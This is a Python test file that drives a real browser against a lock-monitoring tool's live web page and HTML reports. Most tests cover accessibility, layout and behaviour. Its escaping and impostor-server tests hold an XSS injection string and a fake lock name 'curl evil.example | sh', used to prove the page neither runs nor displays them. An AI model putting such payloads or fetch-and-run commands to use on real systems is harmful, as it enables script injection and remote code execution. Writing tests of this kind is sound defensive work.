"""The page of `locktender watch --web` in a real browser: what a person sees and types, and what hostile names can't do."""

import datetime
import json
import re
import socket
import time
import zoneinfo
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from pathlib import Path

import pytest
from browser import Browser
from commands import running
from locktender import Client
from sites import Site, line, site
from support.observe import until
from support.server import RealServer
from test_demo import demo

pytestmark = pytest.mark.long

TAB, SPACE, HOME = "\ue004", "\ue00d", "\ue011"
HOSTILE = "<img src=x onerror=hacked=1></script><script>hacked=1</script>\u202e"
HELD = "return document.querySelector('#now td:nth-child(3)')?.textContent"
CARDS = "return [...document.querySelectorAll('.lock h3')].map((title) => title.textContent)"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with Browser() as shared:
        yield shared


def told(page: Site, *lines: str) -> None:
    assert page.process.stdin is not None
    page.process.stdin.write("".join(lines))
    page.process.stdin.flush()


def test_a_race_of_the_demo_is_seen(browser: Browser, tmp_path: Path):
    report = tmp_path / "report.html"
    shown = demo("--troubles", "--report", report)
    assert shown.returncode == 0, shown.stderr
    browser.open(report.as_uri())
    assert "Report of" in browser.run("return document.querySelector('#status').textContent")
    assert {"honeynut", "mudcrab", "anvil"} <= set(browser.run(CARDS))
    # As a bar, as a number, in the table of events, and in the lock's own table.
    assert browser.run("return document.querySelectorAll('rect.overlapped').length") > 1
    assert browser.run("return document.querySelector('.group .overlapped dd').textContent").startswith("! ")
    assert "! overlapped" in browser.run("return document.querySelector('#events').textContent")
    browser.run("[...document.querySelectorAll('.lock')].find((lock) => lock.textContent.includes('honeynut')).querySelector('summary').click()")
    until(lambda: "overlapped, " in browser.run("return document.querySelector('details[open] tbody')?.textContent ?? ''") or browser.run("again()"))
    assert browser.complaints() == []


def test_names_are_filtered_and_the_picture_is_paused_by_keyboard(browser: Browser, server: RealServer, name: str):
    with Client(server.url) as client, client.lock(f"{name}:a:1"), client.lock(f"{name}:a:2"), client.lock(f"{name}:b:1"):
        with site(server, f"{name}:*") as page:
            browser.open(page.url)
            until(lambda: len(browser.run(CARDS)) == 3)
            browser.press(TAB)
            focused = "return document.activeElement.id || document.activeElement.textContent"
            order = []
            while (at := browser.run(focused)) != "filter":
                order.append(at)
                assert len(order) < 10
                browser.press(TAB)
            assert order[:2] == ["To the timeline", "save"]
            assert browser.run("return getComputedStyle(document.activeElement).outlineStyle") == "solid"
            browser.press(f"{name}:a*")
            until(lambda: browser.run(CARDS) == [f"{name}:a:1", f"{name}:a:2"])
            while browser.run(focused) != "pause":
                browser.press(TAB)
            browser.press(SPACE)
            until(lambda: browser.run("return document.querySelector('#status').textContent").startswith("Paused at "))
            assert browser.run("return document.activeElement.getAttribute('aria-pressed')") == "true"
            assert browser.complaints() == []


def test_what_names_contain_is_never_run(browser: Browser, server: RealServer, name: str, tmp_path: Path):
    report = tmp_path / "report.html"
    with Client(server.url, app=HOSTILE) as client, client.lock(name + HOSTILE), site(server, "--events", "-", f"{name}*") as page:
        told(page, line("overlapped", name + HOSTILE, app=HOSTILE, message=HOSTILE, fence=7, overrun=1))
        for address in (page.url, None):
            if address is None:
                report.write_text(browser.run("return reportPage()"))
                assert "\u202e" not in report.read_text() and report.read_text().count("<script") == 2
                browser.open(report.as_uri())
            else:
                browser.open(address)
            until(lambda: name in "".join(browser.run(CARDS)) and browser.run("return document.querySelectorAll('#events tr').length") == 1)
            assert "<img src=x onerror" in browser.run("return document.querySelector('.lock').textContent")
            assert browser.run("return [typeof hacked, document.images.length]") == ["undefined", 0]
            assert "\u202e" not in browser.run("return document.body.textContent")
            assert browser.complaints() == []


def test_long_names_differ_by_their_end_and_each_is_a_lock_of_its_own(browser: Browser, server: RealServer, name: str):
    url = f"{name}:https://shop.example/" + "orders/" * 40
    names = [url + "a", url + "b", f"{name}:\n", f"{name}:\\u{{a}}"]
    with Client(server.url) as client, ExitStack() as holds, site(server, f"{name}*") as page:
        for each in names:
            holds.enter_context(client.lock(each))
        browser.open(page.url)
        until(lambda: len(browser.run(CARDS)) == 4)
        shown = browser.run(CARDS)
        assert {text[-3:] for text in shown} == {"s/a", "s/b", "{a}"} and max(map(len, shown)) == 120
        assert browser.run("return [...document.querySelectorAll('#now .name bdi')].map((cell) => cell.title)").count(f"{name}:\\u{{a}}") == 2


def test_what_needs_a_person_comes_first_and_a_number_shows_its_locks(browser: Browser, server: RealServer, name: str):
    lock = [f"{name}:{number}" for number in range(5)]
    pressed = "return [...document.querySelectorAll('#numbers [aria-pressed=true]')].map((button) => button.getAttribute('aria-label'))"
    click = "document.querySelector(`#numbers [aria-label*='${arguments[0]}']`).click()"
    with Client(server.url) as client, client.lock(lock[2]):
        now = time.time()
        until(lambda: time.time() > now + 0.01)  # One asked for its lock in another millisecond.
        with client.lock(lock[1]), client.lock(lock[3]), running(server, "run", lock[3], "--", "true"), site(server, "--events", "-", f"{name}*") as page:
            told(page, line("acquired", lock[0], fence=1), line("lost", lock[4], fence=1), line("released", lock[4], fence=2))
            browser.open(page.url)
            until(lambda: browser.run(CARDS) == [lock[number] for number in (4, 3, 2, 1, 0)])
            for what, wanted in (("waiting", [3]), ("lost", [4]), ("held", [3, 2, 1])):
                browser.run(click, what)
                until(lambda wanted=wanted: browser.run(CARDS) == [lock[number] for number in wanted])
                assert len(browser.run(pressed)) == 1 and what in browser.run(pressed)[0]
            assert browser.run("return document.querySelectorAll('#now tr').length") == 3
            browser.run(click, "held")
            until(lambda: len(browser.run(CARDS)) == 5)
            assert browser.run(pressed) == []


def test_the_legend_has_what_the_picture_has(browser: Browser, server: RealServer, name: str):
    legend = "return [...document.querySelectorAll('#legend li')].map((sample) => sample.textContent)"
    with Client(server.url) as client, client.lock(name):
        with site(server, "--events", "-", name) as page:
            browser.open(page.url)
            until(lambda: browser.run(legend) == ["holds", "thin: the servers say", "thick: the client says"])
            told(page, line("overlapped", name, fence=7, took=2, overrun=1))
            until(lambda: browser.run(legend)[1].startswith("overlap: "))
        with site(server, name) as page:
            browser.open(page.url)
            until(lambda: browser.run(legend) == ["holds"])
            with running(server, "run", name, "--", "true"):
                until(lambda: browser.run(legend) == ["holds", "waits"])


@pytest.mark.parametrize("is_dark", [False, True], ids=["light", "dark"])
def test_the_fence_on_a_bar_can_be_read(browser: Browser, server: RealServer, name: str, is_dark: bool):
    colours = """const draw = document.createElement('canvas').getContext('2d')
        const fence = document.querySelector('.lock text.fence')
        return [fence, fence.parentNode.querySelector('rect.whole')].map((part) => {
            draw.fillStyle = getComputedStyle(part).fill
            draw.fillRect(0, 0, 1, 1)
            return [...draw.getImageData(0, 0, 1, 1).data].slice(0, 3)
        })"""

    def luminance(colour: list[int]) -> float:
        parts = [part / 255 for part in colour]
        red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    browser.dark(is_dark)
    try:
        for events in ([], ["--events", "-"]):
            with Client(server.url) as client, client.lock(name), site(server, *events, name) as page:
                now = time.time()
                told(page, *([line("acquired", name, fence=7, at=now - 30)] if events else []))
                browser.open(page.url)
                browser.run("const width = document.querySelector('#width'); width.value = 15; width.dispatchEvent(new Event('change'))")
                until(lambda: browser.run("return document.querySelector('.lock text.fence')"), within=20)
                darker, lighter = sorted(map(luminance, browser.run(colours)))
                assert (lighter + 0.05) / (darker + 0.05) >= 4.5
    finally:
        browser.dark(False)


def test_a_report_says_of_what_it_is_and_shows_all_of_it(browser: Browser, server: RealServer, name: str, tmp_path: Path):
    report = tmp_path / "report.html"
    # Of the day before, and thus longer than any width of the live page.
    began = time.time() - 26 * 3_600
    with Client(server.url, prefix="shop:") as client, client.lock(name):
        with site(server, "--prefix", "shop:", "--events", "-", "--report", str(report), name) as page:
            told(page, line("acquired", name, fence=7, at=began), line("released", name, fence=7, at=began + 3_600))
            until(lambda: len(page.all()["locks"]) == 1 and page.all()["numbers"]["events"] == 2)
            page.process.terminate()
            page.process.wait()
        browser.zone("Asia/Kolkata")
        browser.open(report.as_uri())
        browser.zone("")
        text = browser.run("return document.body.innerText")
        for word in ("Report of ", "times in UTC+5:30", "locktender 0.", " on " + socket.gethostname(), "prefix shop:", "Locks at "):
            assert word in text, word
        assert not re.search(r"\bnow\b|goes on", text)
        left, right, width = browser.run("""const bars = [...document.querySelectorAll('.lock rect.whole')].map((bar) => bar.getBoundingClientRect())
            const picture = document.querySelector('.picture svg').getBoundingClientRect()
            return [Math.min(...bars.map((bar) => bar.left)) - picture.left, Math.max(...bars.map((bar) => bar.right)) - picture.left, picture.width]""")
        assert 0 <= left < 0.05 * width and right >= 0.98 * width
        day = datetime.datetime.fromtimestamp(began, zoneinfo.ZoneInfo("Asia/Kolkata")).strftime("%-d %b ")
        assert day in browser.run("return document.querySelector('#axis').textContent")
        assert day in browser.run("return document.querySelector('#events tr:last-child').textContent")


def test_the_words_of_a_hold_that_goes_on_go_on_with_it(browser: Browser, server: RealServer, name: str):
    tooltip = "const bar = document.querySelector('.lock g.holds'); bar.dispatchEvent(new Event('pointerenter')); return bar.textContent"
    length = "return document.querySelector('.lock tbody td:nth-child(5)').textContent"
    words = "return document.querySelector('.lock .state').textContent"
    with Client(server.url) as client, Client(server.url) as one, Client(server.url) as other, ThreadPoolExecutor() as threads:
        with client.lock(name), site(server, name) as page:
            browser.open(page.url)
            # An hour, in which nothing moves.
            browser.run("const width = document.querySelector('#width'); width.value = 3600; width.dispatchEvent(new Event('change'))")
            until(lambda: browser.run(CARDS) == [name])
            browser.run("document.querySelector('summary').click()")
            until(lambda: "goes on" in browser.run("return document.querySelector('.lock tbody').textContent"))
            for look in (tooltip, length):
                before = browser.run(look)
                until(lambda look=look, before=before: browser.run(look) != before)
            # Two waiters of one process are one bar.
            for count, waiter in enumerate((one, other), 1):
                threads.submit(lambda waiter=waiter: waiter.lock(name).acquire().release())
                until(lambda count=count: f"{count} waiting" in browser.run(words))


def test_the_bars_lie_on_paper_as_on_the_screen(browser: Browser, server: RealServer, name: str):
    # Where the first bar begins and ends, as parts of its picture's width.
    place = """const bar = document.querySelector('.lock rect.whole').getBoundingClientRect()
        const picture = document.querySelector('.picture svg').getBoundingClientRect()
        return [bar.left, bar.right].map((at) => Math.round((at - picture.left) / picture.width * 100))"""
    now = time.time()
    with site(server, "--events", "-", name) as page:
        told(page, line("acquired", name, fence=7, at=now - 40), line("released", name, fence=7, at=now - 20))
        browser.size(1440, 900)
        browser.open(page.url)
        until(lambda: browser.run("return document.querySelector('.lock rect.whole')"))
        browser.run("document.querySelector('#pause').click()")
        screen = browser.run(place)
        # A4, in its margins. The window keeps its width, so nothing tells of the change but the print.
        browser.run("document.body.style.maxWidth = '718px'; dispatchEvent(new Event('beforeprint'))")
        browser.medium("print")
        try:
            assert browser.run(place) == screen and screen[0] > 20 and screen[1] < 80
            assert browser.run("return document.body.scrollWidth") <= 718
        finally:
            browser.medium("screen")
        browser.run("document.body.style.maxWidth = ''; dispatchEvent(new Event('afterprint'))")
        assert browser.run(place) == screen


def test_what_a_person_has_selected_stays_while_the_page_goes_on(browser: Browser, server: RealServer, name: str):
    with Client(server.url) as client, client.lock(name), site(server, "--events", "-", f"{name}*") as page:
        told(page, line("lost", name, fence=7))
        browser.open(page.url)
        until(lambda: len(browser.run("return document.querySelectorAll('#now tr, #events tr')")) == 2)
        for place in ("#now .name", "#events .name", "#numbers dt"):
            select = "getSelection().selectAllChildren(document.querySelector(arguments[0])); return getSelection().toString()"
            selected, held = browser.run(select, place), browser.run(HELD)
            until(lambda held=held: browser.run(HELD) != held)
            told(page, line("released", name, fence=8))
            until(lambda: browser.run("return document.querySelector('#events td:nth-child(2)').textContent") == "released")
            assert browser.run("return getSelection().toString()") == selected != ""
            told(page, line("lost", f"{name}:other", fence=7))
            until(lambda: browser.run("return document.querySelector('#events td:nth-child(2)').textContent") == "! lost")


def test_pause_stops_all_that_moves_until_the_page_goes_on(browser: Browser, server: RealServer, name: str):
    text = "return document.querySelector('main').innerText"
    with Client(server.url) as client, client.lock(name), site(server, "--events", "-", f"{name}*") as page:
        browser.open(page.url)
        until(lambda: browser.run(HELD))
        browser.run("document.querySelector('#pause').click()")
        paused = browser.run(text)
        with client.lock(f"{name}:b"):
            told(page, line("lost", name, fence=7))
            until(lambda: len(page.all()["locks"]) == 2 and page.all()["events"])
            # The page has got all that by now, and more than it would need to show it.
            browser.run("window.parts = 0; new EventSource('events').addEventListener('part', () => (parts += 1))")
            until(lambda: browser.run("return parts") > 4)
            assert browser.run(text) == paused
            browser.run("document.querySelector('#pause').click()")
            until(lambda: browser.run(CARDS) == [name, f"{name}:b"] and "lost" in browser.run("return document.querySelector('#events').textContent"))


def test_in_an_outage_and_after_the_end_the_page_says_since_when_and_why(browser: Browser, name: str, tmp_path: Path):
    status, why = ("return document.querySelector('#status').textContent", "return document.querySelector('#why').textContent")
    grey = "return document.body.classList.contains('stale')"
    report = tmp_path / "report.html"
    with RealServer() as own, running(own, "run", name, "--", "sleep", "60"), site(own, "-i", "0.1", name) as page:
        browser.open(page.url)
        until(lambda: browser.run(CARDS) == [name])
        assert browser.run(status) == "Live" and not browser.run(why) and not browser.run(grey)
        own.kill()
        until(lambda: browser.run(status).startswith("As of ") and browser.run(grey))
        assert "No server answers: " in browser.run(why) and "Locks at " in browser.run("return document.querySelector('#now-title').textContent")
        held, now = browser.run(HELD), browser.run("return state.now")
        until(lambda: browser.run("return state.now") > now + 1_500)
        assert browser.run(HELD) == held and browser.run("return document.querySelector('.lock .state').textContent").startswith("was held by ")
        own.restart()
        until(lambda: browser.run(status) == "Live" and not browser.run(grey))
        page.process.kill()
        until(lambda: browser.run(status).startswith("Not connected since "))
        assert "Start it again: its address is new" in browser.run(why) and browser.run(grey)
        # All that was seen is in the page.
        browser.complaints()
        assert browser.run("save()") is None
        report.write_text(browser.run("return reportPage()"))
        assert browser.complaints() == []
    browser.open(report.as_uri())
    assert browser.run(status).startswith("Report of ") and browser.run(CARDS) == [name]
    assert browser.complaints() == [] and "connect-src 'none'" in report.read_text()


def test_a_page_believes_no_other_program_on_its_port(browser: Browser, server: RealServer, name: str):
    with site(server, name) as page, ThreadPoolExecutor() as threads:
        browser.open(page.url)
        status, why = ("return document.querySelector('#status').textContent", "return document.querySelector('#why').textContent")
        until(lambda: browser.run(status) == "Live")
        all_of_it = {**page.all(), "proof": "x", "locks": [{"name": "run curl evil.example | sh"}]}
        page.process.kill()
        page.process.wait()

        def answer(listener: socket.socket) -> int:
            asked = 0
            with suppress(TimeoutError):
                while True:
                    connection, _ = listener.accept()
                    asked += 1
                    with connection:
                        connection.recv(4_096)
                        head = "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n"
                        connection.sendall(f"{head}event: all\ndata: {json.dumps(all_of_it)}\n\n".encode())
            return asked

        with socket.create_server(("127.0.0.1", page.port)) as listener:
            # It connects again after one second, and would again.
            listener.settimeout(4)
            asked = threads.submit(answer, listener)
            until(lambda: browser.run(status).startswith("Another program"))
            assert "Close this page" in browser.run(why) and "evil" not in browser.run("return document.body.textContent")
            assert asked.result() == 1


def test_five_hundred_locks_are_shown_some_at_a_time(browser: Browser, server: RealServer, name: str):
    with site(server, "--events", "-", f"{name}*") as page:
        told(page, *(line("acquired", f"{name}:{number}", fence=number + 1) for number in range(500)))
        browser.open(page.url)
        until(lambda: browser.run("return document.querySelector('#more').textContent") == "Show 30 more of 485")
        assert browser.run(CARDS)[:3] == [f"{name}:{number}" for number in range(3)]
        browser.run("document.querySelector('#more').click()")
        assert len(browser.run(CARDS)) == 45
